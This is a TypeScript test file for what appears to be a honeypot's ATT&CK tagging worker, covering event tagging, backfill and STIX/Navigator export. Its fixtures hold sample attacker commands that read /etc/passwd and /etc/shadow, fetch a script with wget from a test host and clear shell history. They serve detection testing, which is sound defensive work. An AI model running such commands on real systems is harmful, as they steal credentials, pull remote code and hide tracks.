// The ttp worker over stored events: it tags each event once with evidence, announces only new
// rows, waits for the profiler's attacker rows (or anchors them itself after anchor-wait), keeps
// its cursor and waiting tags across restarts, and a replay (worker or `decnet ttp backfill`)
// inserts nothing twice. `decnet ttp export` renders the stored tags as STIX 2.1 and Navigator.
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { privateData, startHost, waitFor } from './herd-harness.ts';
import { CLI_SOURCE } from '../helpers/env.ts';
import { appendLogs, maxLogId, type LogEventInput } from '../../src/db/logs/repo.ts';
import { attackerUuidByIp, upsertAttacker } from '../../src/db/attackers/repo.ts';
import { listTags, listTagsSince } from '../../src/db/ttp/repo.ts';
import { getState, setState } from '../../src/db/state/repo.ts';
import { validateStixBundle } from '../../src/intel/ttp/stix-validate.ts';
import { CURSOR_KEY, PENDING_KEY } from '../../src/intel/ttp/worker.ts';

const data = privateData('decnet-ttp-worker-');
after(() => data.cleanup());
const db = await data.db();

const T0 = Date.now() - 10 * 60_000;
let n = 0;
function ev(ip: string, event: string, fields: Record<string, string>, secret?: string): LogEventInput {
  const ts = new Date(T0 + ++n * 1000).toISOString();
  const all = secret === undefined ? fields : { ...fields, secret_b64: Buffer.from(secret).toString('base64') };
  return { ts, decky: 'decky-01', service: 'ssh', event_type: event, attacker_ip: ip, src_port: 40000 + n, dst_ip: '127.77.0.10', dst_port: 22, fields: all, raw_line: `test event ${n} ${ts} ${ip} ${event}` };
}

const A = '198.51.100.7'; // profiled before the worker starts
const B = '198.51.100.66'; // profiled while its tag waits
const C = '198.51.100.99'; // never profiled: anchored by the worker
const COMMAND = 'uname -a; cat /etc/passwd; wget http://198.51.100.8/x.sh; history -c';

const CLI_ENV = { ...process.env, DECNET_LOG_LEVEL: 'error' };
const cli = (...args: string[]) => spawnSync(process.execPath, [CLI_SOURCE, ...args], { env: CLI_ENV, encoding: 'utf8' });

test('the worker tags stored events once, with evidence, and announces only new tags', async () => {
  await upsertAttacker(db, { ip: A, first_seen: new Date(T0).toISOString(), last_seen: new Date(T0).toISOString() });
  await appendLogs(db, [
    ev(A, 'connect', {}),
    ev(A, 'auth_attempt', { username: 'root', auth_method: 'password', success: 'false', session_id: 's-a' }, 'letmein'),
    ev(A, 'auth_attempt', { username: 'root', auth_method: 'password', success: 'false', session_id: 's-a' }, 'toor'),
    ev(A, 'auth_attempt', { username: 'root', auth_method: 'password', success: 'true', session_id: 's-a' }, 'admin'),
    ev(A, 'command', { command: COMMAND, cwd: '/root', user: 'root', session_id: 's-a' }),
    ev(B, 'command', { command: 'history -c', cwd: '/root', user: 'root' }),
  ]);

  const t = await startHost('intel-test', [{ name: 'ttp', config: { 'poll-interval': 0.2, 'anchor-wait': 60 } }], ['ttp.>']);
  try {
    const uuidA = (await attackerUuidByIp(db, A))!;
    const tagsA = await waitFor(async () => {
      const rows = await listTags(db, { attacker_uuid: uuidA });
      return rows.length >= 5 && rows;
    }, 15_000, 'the tags of the first attacker');
    const byTechnique = new Map(tagsA.map((r) => [r.sub_technique_id ?? r.technique_id, r]));
    for (const technique of ['T1110', 'T1078', 'T1082', 'T1105', 'T1070.003']) assert.ok(byTechnique.has(technique), `${technique} among ${[...byTechnique.keys()].join(', ')}`);
    const history = byTechnique.get('T1070.003')!;
    assert.equal(history.technique_id, 'T1070');
    assert.equal(history.source_kind, 'command');
    assert.equal(history.session_id, 's-a');
    assert.equal(history.decky_id, 'decky-01');
    assert.equal(history.evidence.text, COMMAND);
    assert.equal(history.evidence.matched, 'history -c');
    assert.equal(history.evidence.attacker_ip, A);
    assert.match(String(history.mitre_url), /attack\.mitre\.org\/techniques\/T1070\/003/);
    assert.match(String(byTechnique.get('T1110')!.evidence.text), /login|root/);
    assert.ok(!JSON.stringify(tagsA).includes(Buffer.from('admin').toString('base64')), 'no captured secret reaches the evidence');

    // ttp.tagged names exactly the stored rows; one ttp.rule.fired per parent technique.
    const tagged = await waitFor(() => t.seen.find((e) => e.topic === 'ttp.tagged' && e.payload.attacker_uuid === uuidA), 5000, 'ttp.tagged');
    assert.deepEqual([...(tagged.payload.tag_uuids as string[])].sort(), tagsA.map((r) => r.uuid).sort());
    assert.ok((tagged.payload.techniques_added as string[]).includes('T1070.003'));
    assert.ok(t.seen.some((e) => e.topic === 'ttp.rule.fired.T1070' && (e.payload.techniques as string[]).includes('T1070.003')));

    // B has no attacker row: its tag waits, then goes in as soon as the profiler records B.
    assert.equal((await listTagsSince(db, {})).filter((r) => r.evidence.attacker_ip === B).length, 0);
    await waitFor(async () => ((await getState<unknown[]>(db, PENDING_KEY)) ?? []).length > 0, 5000, 'the waiting tag to be persisted');
    await upsertAttacker(db, { ip: B, first_seen: new Date(T0).toISOString(), last_seen: new Date(T0).toISOString() });
    t.bus.publish('attacker.observed', { attacker_ip: B });
    const uuidB = (await attackerUuidByIp(db, B))!;
    await waitFor(async () => (await listTags(db, { attacker_uuid: uuidB })).length === 1, 5000, "B's tag after it was profiled");

    // C is never profiled: its tag waits across a restart, then the worker anchors it.
    await appendLogs(db, [ev(C, 'command', { command: 'cat /etc/shadow' })]);
    t.bus.publish('system.log', { rows: 1 });
    await waitFor(async () => ((await getState<{ ip: string }[]>(db, PENDING_KEY)) ?? []).some((p) => p.ip === C), 5000, "C's tag to wait");
  } finally {
    await t.stop();
  }

  const t2 = await startHost('intel-test-2', [{ name: 'ttp', config: { 'poll-interval': 0.2, 'anchor-wait': 0.3 } }], ['ttp.>']);
  try {
    const uuidC = await waitFor(() => attackerUuidByIp(db, C), 5000, 'the anchored attacker row of C');
    await waitFor(async () => (await listTags(db, { attacker_uuid: uuidC })).length >= 1, 5000, "C's tag");
    assert.deepEqual((await getState(db, PENDING_KEY)) ?? [], [], 'nothing waits any more');
  } finally {
    await t2.stop();
  }

  // A replay from the start stores and announces nothing new.
  const before = (await listTagsSince(db, {})).length;
  await setState(db, CURSOR_KEY, 0);
  const t3 = await startHost('intel-test-3', [{ name: 'ttp', config: { 'poll-interval': 0.2 } }], ['ttp.>']);
  try {
    const last = await maxLogId(db);
    await waitFor(async () => Number(await getState(db, CURSOR_KEY)) >= last, 5000, 'the replay to reach the last row');
    assert.equal((await listTagsSince(db, {})).length, before);
    assert.equal(t3.seen.filter((e) => e.topic === 'ttp.tagged').length, 0, 'a replay announces nothing');
  } finally {
    await t3.stop();
  }
});

test('decnet ttp backfill replays stored events and inserts nothing twice', () => {
  const r = cli('ttp', 'backfill', '--since', '1d', '--json');
  assert.equal(r.status, 0, r.stderr);
  const result = JSON.parse(r.stdout) as { events: number; tags_matched: number; tags_inserted: number };
  assert.equal(result.events, 7);
  assert.ok(result.tags_matched >= 7, `matched ${result.tags_matched}`);
  assert.equal(result.tags_inserted, 0);
  const bad = cli('ttp', 'backfill', '--since', 'last tuesday');
  assert.equal(bad.status, 2);
  assert.match(bad.stderr, /neither a duration .* nor an ISO-8601 time/);
});

test('decnet ttp export writes a valid STIX 2.1 bundle and a Navigator layer of the stored tags', async () => {
  const stored = await listTagsSince(db, {});
  const file = join(data.dir, 'bundle.json');
  const r = cli('ttp', 'export', '--format', 'stix', '--out', file);
  assert.equal(r.status, 0, r.stderr);
  assert.match(r.stdout, new RegExp(`STIX 2.1 bundle of ${stored.length} tags`));
  const bundle = JSON.parse(readFileSync(file, 'utf8')) as { objects: { type: string; x_decnet_tag_id?: string; x_decnet_evidence?: { text: string } }[] };
  assert.deepEqual(validateStixBundle(bundle), []);
  const sightings = bundle.objects.filter((o) => o.type === 'sighting');
  assert.deepEqual(sightings.map((s) => s.x_decnet_tag_id).sort(), stored.map((t) => t.uuid).sort(), 'one sighting per stored tag, under its id');
  assert.ok(sightings.some((s) => s.x_decnet_evidence?.text === COMMAND));

  const nav = cli('ttp', 'export', '--format', 'navigator');
  assert.equal(nav.status, 0, nav.stderr);
  const layer = JSON.parse(nav.stdout) as { domain: string; techniques: { techniqueID: string; score?: number }[] };
  assert.equal(layer.domain, 'enterprise-attack');
  const history = layer.techniques.find((x) => x.techniqueID === 'T1070.003');
  assert.equal(history?.score, 2, 'history -c by A and by B');
  assert.ok(layer.techniques.some((x) => x.techniqueID === 'T1070'), 'the parent is listed so the matrix opens it');

  const none = cli('ttp', 'export', '--format', 'stix', '--since', '2000-01-01T00:00:00Z', '--limit', '1');
  assert.equal(none.status, 0, none.stderr);
  assert.match(none.stderr, /only the oldest 1 were read/);
  const missing = cli('ttp', 'export');
  assert.equal(missing.status, 2);
  assert.match(missing.stderr, /--format stix or --format navigator is required/);
  const wrong = cli('ttp', 'export', '--format', 'navigator', '--poll-interval', '3');
  assert.equal(wrong.status, 2);
  assert.match(wrong.stderr, /--poll-interval does not apply/);
});
